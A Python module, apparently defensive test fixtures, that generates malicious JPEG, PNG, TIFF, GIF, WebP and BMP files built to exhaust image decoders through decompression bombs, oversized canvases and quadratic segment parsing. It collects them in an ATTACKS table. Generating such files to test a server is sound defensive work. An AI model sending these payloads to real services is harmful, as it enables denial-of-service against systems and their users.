"""Images that are built to cost a decoder far more than they cost to send: pure functions to bytes, each with a size.

All are small files of allowed formats. What each costs an unprepared decoder is in its docstring; the server refuses it
before decoding, or ends the decoder (SECURITY.md).
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image


def many_scans(side: int = 6000, scans: int = 1000) -> bytes:
    """A progressive JPEG whose last scan stands there again and again: a pass over all coefficients each time."""
    buffer = io.BytesIO()
    Image.new("L", (side, side), 128).save(buffer, "JPEG", progressive=True, quality=30)
    data = buffer.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * scans + data[-2:]


def many_exif_segments(segments: int = 1_000_000) -> bytes:
    """A JPEG whose EXIF comes in pieces of two bytes, joined one by one: quadratic."""
    return _with_segments(b"\xff\xe1\x00\x0aExif\0\0ab", segments)


def many_comments(segments: int = 1_000_000) -> bytes:
    """A JPEG of empty application segments, each a list entry."""
    return _with_segments(b"\xff\xe5\x00\x02", segments)


def _with_segments(segment: bytes, count: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (32, 32), "red").save(buffer, "JPEG")
    return b"\xff\xd8" + segment * count + buffer.getvalue()[2:]


def png(
    size: tuple[int, int], *chunks: tuple[bytes, bytes], depth: int = 8, colours: int = 0, pixels: bytes | None = None
) -> bytes:
    """A PNG of zeros with more chunks before its pixels. `pixels`: filtered rows; by default as many as the size
    says."""
    bits = depth * {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colours]
    rows = bytes((1 + -(-size[0] * bits // 8)) * size[1]) if pixels is None else pixels
    every = [
        (b"IHDR", struct.pack(">IIBBBBB", *size, depth, colours, 0, 0, 0)),
        *chunks,
        (b"IDAT", zlib.compress(rows, 9)),
        (b"IEND", b""),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in every
    )


def text_bomb(chunks: int = 60, chunk_bytes: int = 1 << 20) -> bytes:
    """A PNG with compressed texts that unpack a thousandfold."""
    packed = zlib.compress(bytes(chunk_bytes), 9)
    return png(
        (16, 16),
        *[(b"zTXt", f"k{n}".encode() + b"\0\0" + packed) for n in range(chunks)],
        (b"iTXt", b"t\0\1\0\0\0" + packed),
    )


def profile_bomb(chunks: int = 15_000, chunk_bytes: int = 1 << 20) -> bytes:
    """A PNG with one packed colour profile after the other; only the last counts, each is unpacked."""
    return png((16, 16), *[(b"iCCP", b"p\0\0" + zlib.compress(bytes(chunk_bytes), 9))] * chunks)


def short_png(side: int = 60_000) -> bytes:
    """A PNG that promises pixels it does not hold."""
    return png((side, side), colours=2, pixels=bytes(1000))


def tiff(size: tuple[int, int], fields: dict[int, tuple[int, list[int]]], body: bytes, more: int = 0) -> bytes:
    """A grey 8-bit little-endian TIFF: fields (tag: (type 3 or 4, values)) over the usual ones, `body` at byte 8, the
    next directory at `more`."""
    usual = {256: (4, [size[0]]), 257: (4, [size[1]]), 258: (3, [8]), 259: (3, [8]), 262: (3, [1]), 277: (3, [1])}
    every = sorted({**usual, **fields}.items())
    place = 8 + len(body) + len(body) % 2
    outside = b""
    entries = b""
    for tag, (kind, values) in every:
        raw = struct.pack(f"<{len(values)}{'H' if kind == 3 else 'I'}", *values)
        if len(raw) > 4:
            raw, outside = struct.pack("<I", place + len(outside)), outside + raw + bytes(len(raw) % 2)
        entries += struct.pack("<HHI4s", tag, kind, len(values), raw)
    directory = struct.pack("<H", len(every)) + entries + struct.pack("<I", more)
    return b"II*\0" + struct.pack("<I", place + len(outside)) + body + bytes(len(body) % 2) + outside + directory


def huge_tile(side: int = 16_000) -> bytes:
    """A TIFF of 64 x 64 pixels in one deflated tile of side x side."""
    body = zlib.compress(bytes(side * side), 9)
    return tiff((64, 64), {322: (4, [side]), 323: (4, [side]), 324: (4, [8]), 325: (4, [len(body)])}, body)


def repeated_strips(side: int = 4000, strips: int = 100_000) -> bytes:
    """A raw TIFF that names far more strips than it has rows, all in the same place: each is copied again."""
    body = bytes(side * side)
    return tiff(
        (side, side),
        {259: (3, [1]), 278: (4, [side - 1]), 273: (4, [8] * strips), 279: (4, [side * side] * strips)},
        body,
    )


def large_gif_frame(side: int = 13_000) -> bytes:
    """A GIF with a screen of one pixel and a frame of side x side that is to be disposed of: filled when it is
    opened."""
    frame = b"," + struct.pack("<4HB", 0, 0, side, side, 0) + b"\x02\x02\x44\x01\x00;"
    return b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + bytes(6) + b"!\xf9\x04\x08\0\0\0\0" + frame


def many_gif_blocks(blocks: int = 5_000_000) -> bytes:
    """A GIF whose comment comes in blocks of one byte."""
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + bytes(6)
    return head + b"!\xfe" + b"\x01x" * blocks + b"\0," + struct.pack("<4HB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00;"


def large_webp_canvas(side: int = 16_000) -> bytes:
    """An animated WebP of a large canvas and no frame: canvases are allocated when it is opened."""
    side_bytes = (side - 1).to_bytes(3, "little")
    body = (
        b"WEBPVP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + side_bytes * 2 + b"ANIM" + struct.pack("<I", 6) + bytes(6)
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def run_length_bmp(side: int = 6000) -> bytes:
    """A BMP of one-pixel runs and ends of line: the decoder pads every row byte by byte."""
    body = b"\x01\x01\x00\x00" * side + b"\x00\x01"
    header = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 8, 1, len(body), 0, 0, 256, 0)
    palette = b"".join(bytes((n, 255 - n, n, 0)) for n in range(256))
    return b"BM" + struct.pack("<IHHI", 54 + 1024 + len(body), 0, 0, 54 + 1024) + header + palette + body


def _many(make: Callable[[int], bytes], count: int) -> Callable[[float], bytes]:
    return lambda scale: make(max(1, int(count * scale)))


def _square(make: Callable[[int], bytes], side: int) -> Callable[[float], bytes]:
    return lambda scale: make(max(1, int(side * scale**0.5)))


# kind: a share of the full size (of what is repeated, or of the pixels) -> the file
ATTACKS: dict[str, Callable[[float], bytes]] = {
    "scans": lambda scale: many_scans(int(6000 * scale**0.5), int(1000 * scale)),
    "exif segments": _many(many_exif_segments, 1_000_000),
    "comment segments": _many(many_comments, 1_000_000),
    "text bomb": _many(text_bomb, 60),
    "profile bomb": _many(profile_bomb, 15_000),
    "short png": _square(short_png, 60_000),
    "huge tile": _square(huge_tile, 16_000),
    "repeated strips": lambda scale: repeated_strips(int(4000 * scale**0.5), int(100_000 * scale)),
    "gif frame": _square(large_gif_frame, 13_000),
    "gif blocks": _many(many_gif_blocks, 5_000_000),
    "webp canvas": _square(large_webp_canvas, 16_000),
    "run-length bmp": _square(run_length_bmp, 6000),
}
